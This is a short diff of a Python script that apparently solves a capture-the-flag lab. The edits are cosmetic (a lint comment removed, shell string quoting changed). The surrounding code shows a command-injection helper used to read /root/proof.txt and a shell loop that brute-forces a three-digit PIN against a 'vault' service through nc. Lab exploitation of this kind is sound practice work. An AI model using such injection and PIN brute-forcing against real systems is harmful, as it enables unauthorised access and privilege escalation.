@@ -13,7 +13,7 @@ FLAG = re.compile(r"FLAG\{[0-9a-f]+\}")
 
 
 def get(url: str, timeout: float = 30) -> str:
-    with urllib.request.urlopen(url, timeout=timeout) as answer:  # noqa: S310 - the instance's hosts
+    with urllib.request.urlopen(url, timeout=timeout) as answer:
         return answer.read().decode("utf-8", "replace")
 
 
@@ -39,9 +39,9 @@ found("flag_root", inject("cat /root/proof.txt"))
 # The vault listens again a moment after each session: retry a PIN whose connection got no answer.
 brute = (
     "for p in $(seq 100 999); do r=''; n=0; "
-    "while [ -z \"$r\" ] && [ $n -lt 20 ]; do r=$(echo $p | nc vault 9000 2>/dev/null); n=$((n+1)); "
-    "[ -z \"$r\" ] && usleep 20000; done; "
-    "case \"$r\" in *GRANTED*) echo \"PIN $p\"; echo \"$r\"; break;; esac; done"
+    'while [ -z "$r" ] && [ $n -lt 20 ]; do r=$(echo $p | nc vault 9000 2>/dev/null); n=$((n+1)); '
+    '[ -z "$r" ] && usleep 20000; done; '
+    'case "$r" in *GRANTED*) echo "PIN $p"; echo "$r"; break;; esac; done'
 )
 answer = inject(brute, timeout=240)
 print(answer, file=sys.stderr)
